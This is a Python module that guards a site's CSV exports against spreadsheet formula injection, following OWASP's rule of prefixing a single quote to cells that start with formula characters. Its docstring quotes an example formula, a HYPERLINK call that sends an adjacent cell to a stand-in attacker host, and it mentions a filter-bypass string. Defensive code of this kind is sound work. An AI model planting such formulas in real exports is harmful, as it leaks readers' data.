"""CSV cells a spreadsheet cannot run: OWASP's rule against CSV (formula) injection.

A spreadsheet that opens a CSV file treats a cell starting with ``=``, ``+``, ``-``
or ``@`` as a formula, and a leading tab, carriage return or line feed can carry one
in. A headline, a source's name or a question written as
``=HYPERLINK("http://evil.example/?x="&A1,"Open")`` would open in a reader's or an
editor's spreadsheet as a link that sends the cell beside it away. OWASP's "CSV
Injection" page gives the rule applied here: prefix such a cell with a single quote,
which spreadsheets read as "this is text" and do not show.

The rule applies to every text cell, numeric-looking text included ("-0.69" written as
text gets its quote): telling a number from a formula by how the text looks is where
such filters are bypassed ("-1+1|cmd…"), and OWASP does not exempt it. A value the
writer passes as a number (int, float, Decimal) is left as it is: it comes from the
site's own arithmetic, not from anyone's typing, and its written form (a sign, digits,
a point, an exponent) cannot hold a formula, so a spreadsheet still reads -3.5 as the
number -3.5. Exports that hold numbers pass them as numbers.

The csv module still quotes the cell as RFC 4180 asks, so the file parses as before;
the quote is one more character of the field. Every CSV the site writes puts each cell
through ``safe_cell`` (``safe_row`` for a whole row).
"""

from collections.abc import Mapping
from decimal import Decimal

# OWASP, "CSV Injection": the first characters that make a spreadsheet read a formula (the
# page added the line feed in 2025).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def safe_cell(value):
    """``value`` as a cell no spreadsheet runs: text that starts like a formula gets "'"."""
    if value is None or isinstance(value, int | float | Decimal):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def safe_row(row):
    """Every cell of ``row`` (a sequence, or a mapping for ``csv.DictWriter``) made safe."""
    if isinstance(row, Mapping):
        return {column: safe_cell(value) for column, value in row.items()}
    return [safe_cell(value) for value in row]
